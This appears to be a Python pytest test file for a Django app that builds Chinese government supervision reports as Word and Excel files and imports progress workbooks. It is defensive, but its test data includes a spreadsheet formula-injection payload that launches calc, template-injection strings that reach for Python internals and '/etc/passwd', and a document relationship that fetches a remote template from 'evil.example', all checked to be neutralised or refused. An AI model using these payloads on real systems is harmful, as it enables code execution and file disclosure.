"""Papers: what they say, that a template can do no more than show, and progress by workbook whole or not at all."""

from __future__ import annotations

import io
import re
import zipfile
from datetime import date, datetime, timedelta
from decimal import Decimal
from typing import TYPE_CHECKING, Any

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import timezone
from docx import Document
from openpyxl.worksheet.worksheet import Worksheet

from duban.errors import InputError
from duban.supervision.model import Act
from duban.web.cases import service as cases
from duban.web.organisation.service import standing_of
from duban.web.papers import documents, facts, progress, sheets
from duban.web.papers.models import ProgressBook, Template
from tests.web.test_cases import handed, paper, take
from tests.web.test_jobs import cases_more

if TYPE_CHECKING:
    from pathlib import Path

    from django.http import HttpResponse
    from django.test import Client

    from duban.web.cases.models import Case
    from tests.web.city import City

pytestmark = pytest.mark.django_db


@pytest.fixture
def case(city: City) -> Case:
    return handed(city)


def words_of(document: bytes) -> str:
    """All words of a document, in order."""
    with zipfile.ZipFile(io.BytesIO(document)) as archive:
        return re.sub(r"<[^>]+>", " ", archive.read("word/document.xml").decode())


def tables_of(document: bytes) -> list[list[list[str]]]:
    return [
        [[cell.text for cell in row.cells] for row in table.rows]
        for table in Document(io.BytesIO(document)).tables
    ]


# --- papers -----------------------------------------------------------------------------------------------------------


def test_the_originals_are_what_their_tool_makes() -> None:
    """After a change: python -m tools.paper_templates."""
    from tools.paper_templates import breakdown, circular

    for name, made in (("breakdown", breakdown()), ("circular", circular())):
        ours, theirs = (zipfile.ZipFile(io.BytesIO(data)) for data in (documents.original(name), made))
        assert {one: ours.read(one) for one in ours.namelist()} == {
            one: theirs.read(one) for one in theirs.namelist()
        }


def test_the_breakdown_names_sentence_units_and_day(client: Client, case: Case, city: City) -> None:
    city.posts["leader"].charge.add(city.units["education"])
    city.sign_in(client, "office")
    report = case.commitment.report
    made = client.get(f"/papers/breakdown/{report.pk}.docx")
    assert made.status_code == 200
    heading, section, row = tables_of(made.content)[0]
    assert heading == ["序号", "重点任务", "目标", "牵头单位", "配合单位", "完成时限", "责任领导"]
    assert "保障改善民生" in section[0]
    assert row == [
        "1",
        "新增养老床位1500张",
        "新增养老床位1500张",
        "教育局",
        "卫健委",
        "2027-11-30",
        "副市长leader",
    ]
    assert f"{report.title}重点任务分解表" in words_of(made.content)


def test_the_breakdown_as_a_workbook_is_ready_to_print(client: Client, case: Case, city: City) -> None:
    city.sign_in(client, "leader")
    made = client.get(f"/papers/breakdown/{case.commitment.report.pk}.xlsx")
    sheet = opened(made.content).active
    assert isinstance(sheet, Worksheet)
    assert sheet.freeze_panes == "A3"
    assert sheet.auto_filter.ref == "A2:M3"
    assert (sheet.page_setup.orientation, sheet.print_title_rows) == ("landscape", "$1:$2")
    assert [cell.value for cell in sheet[3]][:4] == ["1", case.key, sheet["C3"].value, case.title]


def opened(data: bytes) -> Any:
    return openpyxl.load_workbook(io.BytesIO(data))


@pytest.mark.parametrize(
    "words", ["=cmd|' /C calc'!A0", "+1+1", "-2", "@SUM(A1)", "\t=1", '=HYPERLINK("http://x")']
)
def test_words_that_look_like_a_formula_stay_words(case: Case, words: str) -> None:
    case.title = words
    case.save()
    state = dict(case.state, title=words)
    type(case).objects.update(state=state)
    sheet = opened(sheets.breakdown(words, facts.breakdown(case.commitment.report))).active
    for place in ("A1", "D3"):
        assert (sheet[place].value, sheet[place].data_type) == (words, "s")
        assert sheet[place].quotePrefix
    book = opened(progress.workbook([case], words)).active
    assert all(cell.data_type != "f" for row in book.iter_rows() for cell in row)


def test_a_circular_counts_names_and_asks(client: Client, city: City) -> None:
    late, *others = [handed(city), *cases_more(city)]
    people = city.people
    closed, unsigned = others[0], others[1]
    take(late, Act.SIGN, people["liaison"])
    take(closed, Act.SIGN, people["liaison"])
    take(closed, Act.CLAIM, people["head"], details={"text": "完成"}, files=[paper()])
    take(closed, Act.VERIFY, people["office"], files=[paper("核查.pdf")])
    take(closed, Act.CLOSE, people["office_2"], details={"result": "done"})
    today = timezone.localdate()
    found = facts.circular(today.replace(day=1), today)
    assert [line.case for line in found.done] == [closed]
    assert unsigned in [line.case for line in found.unsigned]
    assert len(found.lines) == 4
    assert "共交办重点任务4项，已办结1项，在办3项" in found.overview
    city.sign_in(client, "office")
    page = client.get(f"/papers/circular/?since={today.replace(day=1)}&until={today}")
    assert page.status_code == 200
    said = {
        "since": today.replace(day=1), "until": today, "number": 3, "title": "关于推进情况的通报",
        "praised": "教育局：办得好\n", "criticised": "", "demands": "一要抓紧。\n二要落实。", "docx": "",
    }  # fmt: skip
    made = client.post("/papers/circular/", said)
    words = words_of(made.content)
    for wanted in (
        "第3期",
        "教育局：办得好",
        "二要落实。",
        "市政府督查室",
        closed.title,
        found.overview,
        "无逾期事项。",
    ):
        assert wanted in words, wanted
    assert "予以通报批评" not in words
    workbook = client.post("/papers/circular/", {**said, "xlsx": ""} | {"docx": ""})
    assert opened(workbook.content).sheetnames == ["各单位情况", "逾期", "未签收", "本期办结", "全部任务"]


def test_a_circular_of_a_period_that_is_over_says_what_was_so_then(case: Case, city: City) -> None:
    take(case, Act.SIGN, city.people["liaison"])
    later = datetime(2027, 12, 20, 9, tzinfo=timezone.get_current_timezone())
    now = facts.circular(date(2026, 1, 1), timezone.localdate())
    assert (len(now.late), len(now.unsigned)) == (0, 0)
    then = facts.circular(date(2027, 12, 1), date(2027, 12, 10), now=later)
    assert [line.case for line in then.late] == [case]
    praised, criticised = facts.suggested(then)
    assert (praised, criticised) == ([], ["教育局：逾期1项。"])
    before = facts.circular(date(2026, 1, 1), date(2026, 1, 31))
    assert before.lines == []


@pytest.mark.parametrize(
    "query",
    ["since=x&until=2026-01-01", "since=2026-02-01&until=2026-01-01", "since=1026-02-01&until=2026-01-01"],
)
def test_a_period_that_cannot_be_is_told_of(client: Client, city: City, query: str) -> None:
    city.sign_in(client, "office")
    assert client.get(f"/papers/circular/?{query}").status_code == 422


def test_characters_that_a_document_cannot_hold_are_left_out(case: Case) -> None:
    state = dict(case.state, title="a\x0bb & <b>粗</b> {{ 7*7 }}")
    type(case).objects.update(state=state, title="x")
    made = documents.breakdown(case.commitment.report, facts.breakdown(case.commitment.report))
    assert "ab & <b>粗</b> {{ 7*7 }}" in tables_of(made)[0][2]


# --- templates --------------------------------------------------------------------------------------------------------


def template(*paragraphs: str) -> bytes:
    document = Document()
    for text in paragraphs:
        document.add_paragraph(text)
    stream = io.BytesIO()
    document.save(stream)
    return stream.getvalue()


GOOD = ("{{ title }}", "{%p for section in sections %}", "{%p for row in section.rows %}", "{{ row.number }} {{ row.title|upper }}", "{%p endfor %}", "{%p endfor %}")  # fmt: skip
BAD = {
    "a name that there is not": ("{{ row.titel }}",),
    "shows no task": ("{{ title }}",),
    "a call": ("{{ title.upper() }}",),
    "a private attribute": ("{{ title.__class__.__mro__ }}",),
    "by index": ("{{ title['__class__'] }}",),
    "a sum without end": ("{{ 9**9**9 }}",),
    "a loop of its own": ("{% for x in range(99999999) %}x{% endfor %}",),
    "loops in loops": ("{% for a in rows %}{% for b in rows %}{% for c in rows %}{% for d in rows %}x{% endfor %}{% endfor %}{% endfor %}{% endfor %}",),
    "another file": ("{% include '/etc/passwd' %}",),
    "a macro": ("{% macro x() %}{{ x() }}{% endmacro %}",),
    "set": ("{% set x = 1 %}",),
    "a filter that is not": ("{{ title|attr('__class__') }}",),
    "left open": ("{% for row in rows %}",),
}  # fmt: skip


def kept(tmp_path: Path, data: bytes) -> Path:
    path = tmp_path / "t.docx"
    path.write_bytes(data)
    return path


@pytest.mark.parametrize("paper_", list(documents.PAPERS))
def test_our_templates_are_found_good(paper_: str, tmp_path: Path) -> None:
    documents.check(kept(tmp_path, documents.original(paper_)), paper_)


@pytest.mark.parametrize("what", BAD)
def test_a_template_that_does_more_than_show_is_refused(what: str, tmp_path: Path) -> None:
    with pytest.raises(InputError) as refused:
        documents.check(kept(tmp_path, template(*BAD[what])), "breakdown")
    assert refused.value.what


def test_a_template_that_fetches_from_outside_is_refused(tmp_path: Path) -> None:
    data = io.BytesIO(template(*GOOD))
    with zipfile.ZipFile(data, "a") as archive:
        archive.writestr(
            "word/_rels/settings.xml.rels",
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
            'Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>',
        )
    with pytest.raises(InputError, match=r"settings\.xml\.rels"):
        documents.check(kept(tmp_path, data.getvalue()), "breakdown")


def test_a_citys_template_is_used_until_it_is_put_aside(client: Client, case: Case, city: City) -> None:
    city.sign_in(client, "office")
    report = case.commitment.report.pk
    for name, data, status in (
        ("模板.docx", template("{{ nothing }}"), 422),
        ("模板.txt", b"{{ title }}", 422),
        ("模板.docx", b"PK\x03\x04 no archive", 422),
        ("模板.docx", template(*GOOD), 302),
    ):
        file = SimpleUploadedFile(name, data)
        assert (
            client.post("/papers/templates/new/", {"paper": "breakdown", "file": file}).status_code == status
        ), name
    assert Template.objects.count() == 1
    assert tables_of(client.get(f"/papers/breakdown/{report}.docx").content) == []
    assert "1 新增养老床位1500张" in words_of(client.get(f"/papers/breakdown/{report}.docx").content)
    assert b"row.title|upper" in zipfile.ZipFile(
        io.BytesIO(b"".join(client.get("/papers/templates/breakdown.docx")))
    ).read("word/document.xml")
    client.post("/papers/templates/breakdown/aside/")
    assert tables_of(client.get(f"/papers/breakdown/{report}.docx").content)


# --- progress by workbook ---------------------------------------------------------------------------------------------


@pytest.fixture
def signed(case: Case, city: City) -> Case:
    take(case, Act.SIGN, city.people["liaison"])
    return case


COLUMNS = {"value": "K", "text": "L", "percent": "M", "problems": "N", "next_steps": "O"}


def fill(data: bytes, cells: dict[str, Any]) -> bytes:
    """The workbook with these cells filled in."""
    book = opened(data)
    for place, value in cells.items():
        book.active[place] = value
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


def bring(client: Client, data: bytes, name: str = "填报.xlsx") -> HttpResponse:
    return client.post("/papers/progress/", {"file": SimpleUploadedFile(name, data)})  # type: ignore[return-value]


def taken(client: Client) -> bytes:
    answer = client.get("/papers/progress/workbook.xlsx")
    assert answer.status_code == 200
    return bytes(answer.content)


@pytest.fixture
def liaison(client: Client, signed: Case, city: City) -> Client:
    city.sign_in(client, "liaison")
    return client


def test_a_workbook_goes_out_and_comes_back_as_reports(liaison: Client, signed: Case) -> None:
    data = taken(liaison)
    sheet = opened(data).active
    keys = sheet.column_dimensions["A"]
    assert (keys.min, keys.max, keys.hidden) == (1, 3, True)
    assert (sheet["D4"].value, sheet["A4"].value, sheet["B4"].value) == (signed.key, signed.key, "4")
    assert sheet.protection.sheet
    filled = fill(data, {"K4": 600, "L4": "已新增600张", "M4": 40, "N4": "用地紧张", "O4": "加快审批"})
    where = bring(liaison, filled)["Location"]
    page = liaison.get(where)
    assert page.context["ready"] == 1
    assert cases.events_of(signed)[-1].act is Act.SIGN, "looking changes nothing"
    assert liaison.post(where, {"ready": 1}).status_code == 302
    event = cases.events_of(signed)[-1]
    assert (event.act, event.details.percent, event.details.text) == (Act.REPORT, 40, "已新增600张")
    assert [(one.target, one.value) for one in event.details.values] == [("t1", Decimal(600))]
    assert (event.details.problems, event.details.next_steps) == ("用地紧张", "加快审批")
    assert liaison.post(where, {"ready": 1}).status_code == 422, "once"
    assert len(cases.events_of(signed)) == 5
    assert "次" not in str(liaison.get(where).context["entries"])


ODD: dict[str, tuple[dict[str, Any], str]] = {
    "a formula": ({"K4": "=300*2"}, "K4"),
    "words in place of a number": ({"K4": "约300张"}, "约300张"),
    "more than a hundred": ({"M4": 140, "L4": "x"}, "100"),
    "a part of a percent": ({"M4": 40.5}, "100"),
    "a date": ({"K4": datetime(2026, 5, 1)}, "K4"),  # noqa: DTZ001 - as a spreadsheet has it
    "yes": ({"M4": True}, "M4"),
    "a row that was added": ({"D5": "2026-00099", "L5": "新增一项"}, ""),
    "another unit's task": ({"A4": "2026-09999", "L4": "x"}, ""),
    "far too long": ({"L4": "长" * 5000}, "4000"),
}


@pytest.mark.parametrize("what", ODD)
def test_what_cannot_be_is_said_cell_by_cell_and_reported_never(
    liaison: Client, signed: Case, what: str
) -> None:
    cells, told = ODD[what]
    where = bring(liaison, fill(taken(liaison), cells))["Location"]
    page = liaison.get(where)
    (entry,) = page.context["entries"]
    assert entry.outcome == progress.Outcome.WRONG
    assert told in " ".join(entry.why)
    assert page.context["ready"] == 0
    liaison.post(where, {"ready": 0})
    assert len(cases.events_of(signed)) == 4


def test_what_was_typed_as_words_but_is_a_number_is_taken(liaison: Client, signed: Case) -> None:
    where = bring(liaison, fill(taken(liaison), {"K4": "１,２００", "M4": "80"}))["Location"]
    liaison.post(where, {"ready": 1})
    event = cases.events_of(signed)[-1]
    assert (event.details.values[0].value, event.details.percent) == (Decimal(1200), 80)


def test_a_task_that_changed_meanwhile_is_left_out(liaison: Client, signed: Case, city: City) -> None:
    data = fill(taken(liaison), {"L4": "进展"})
    take(signed, Act.NOTE, city.people["office"], details={"text": "请报进展"})
    assert liaison.get(bring(liaison, data)["Location"]).context["ready"] == 1, "a note disturbs nobody"
    take(signed, Act.CHASE, city.people["office"])
    page = liaison.get(bring(liaison, data)["Location"])
    assert [entry.outcome for entry in page.context["entries"]] == [progress.Outcome.CHANGED]


def test_what_the_rules_refuse_is_said_in_their_words(liaison: Client, signed: Case, city: City) -> None:
    more = cases_more(city, 1)[0]
    data = taken(liaison)
    line = next(row[0].row for row in opened(data).active.iter_rows() if row[0].value == more.key)
    page = liaison.get(bring(liaison, fill(data, {f"L{line}": "进展", "L4": "进展"}))["Location"])
    outcomes = {entry.said.case: entry for entry in page.context["entries"]}
    assert outcomes[signed.key].outcome == progress.Outcome.READY
    assert outcomes[more.key].outcome == progress.Outcome.REFUSED
    assert outcomes[more.key].why[0]


def test_if_anything_changes_after_the_check_nothing_is_taken_over(
    liaison: Client, signed: Case, city: City
) -> None:
    other = cases_more(city, 1)[0]
    take(other, Act.SIGN, city.people["liaison"])
    data = taken(liaison)
    lines = {row[0].value: row[0].row for row in opened(data).active.iter_rows(min_row=4)}
    filled = fill(data, {f"L{lines[signed.key]}": "甲", f"L{lines[other.key]}": "乙"})
    where = bring(liaison, filled)["Location"]
    assert liaison.get(where).context["ready"] == 2
    take(other, Act.CHASE, city.people["office"])
    assert liaison.post(where, {"ready": 2}).status_code == 409
    assert cases.events_of(signed)[-1].act is Act.SIGN
    assert ProgressBook.objects.get(pk=int(where.split("/")[-2])).applied is None
    assert liaison.get(where).context["ready"] == 1


def test_another_persons_workbook_is_not_there(liaison: Client, signed: Case, city: City) -> None:
    where = bring(liaison, fill(taken(liaison), {"L4": "进展"}))["Location"]
    city.sign_in(liaison, "other_liaison")
    assert liaison.get(where).status_code == 404
    assert opened(taken(liaison)).active["A4"].value is None, "nothing of another unit"


@pytest.mark.parametrize(
    "data", [b"", b"PK\x03\x04", b"no workbook", template("x")], ids=["empty", "cut", "text", "docx"]
)
def test_what_is_no_workbook_of_ours_is_told_of(liaison: Client, data: bytes) -> None:
    assert bring(liaison, data).status_code == 422
    assert not ProgressBook.objects.exists()


def test_a_workbook_of_something_else_is_told_of(liaison: Client) -> None:
    book = openpyxl.Workbook()
    stream = io.BytesIO()
    book.save(stream)
    assert bring(liaison, stream.getvalue()).status_code == 422


def test_rows_sorted_otherwise_and_targets_of_their_own_are_understood(city: City, client: Client) -> None:
    """改造老旧小区90个、电梯600部: a task with several targets has a row for each."""
    handed(city)
    found = [case for case in cases_more(city, 3) if len(case.state["targets"]) > 1]
    if not found:
        pytest.skip("no commitment of the report has two targets")
    two = found[0]
    take(two, Act.SIGN, city.people["liaison"])
    city.sign_in(client, "liaison")
    data = taken(client)
    rows = [row[0].row for row in opened(data).active.iter_rows(min_row=4) if row[0].value == two.key]
    where = bring(client, fill(data, {f"K{rows[0]}": 40, f"K{rows[1]}": 200}))["Location"]
    client.post(where, {"ready": 1})
    assert [one.value for one in cases.events_of(two)[-1].details.values] == [Decimal(40), Decimal(200)]


def test_a_period_of_two_weeks_ago_is_not_changed_by_today(case: Case) -> None:
    day = timezone.localdate() - timedelta(days=14)
    assert facts.circular(day, day).lines == []
    assert standing_of(case.commitment.report.by).held
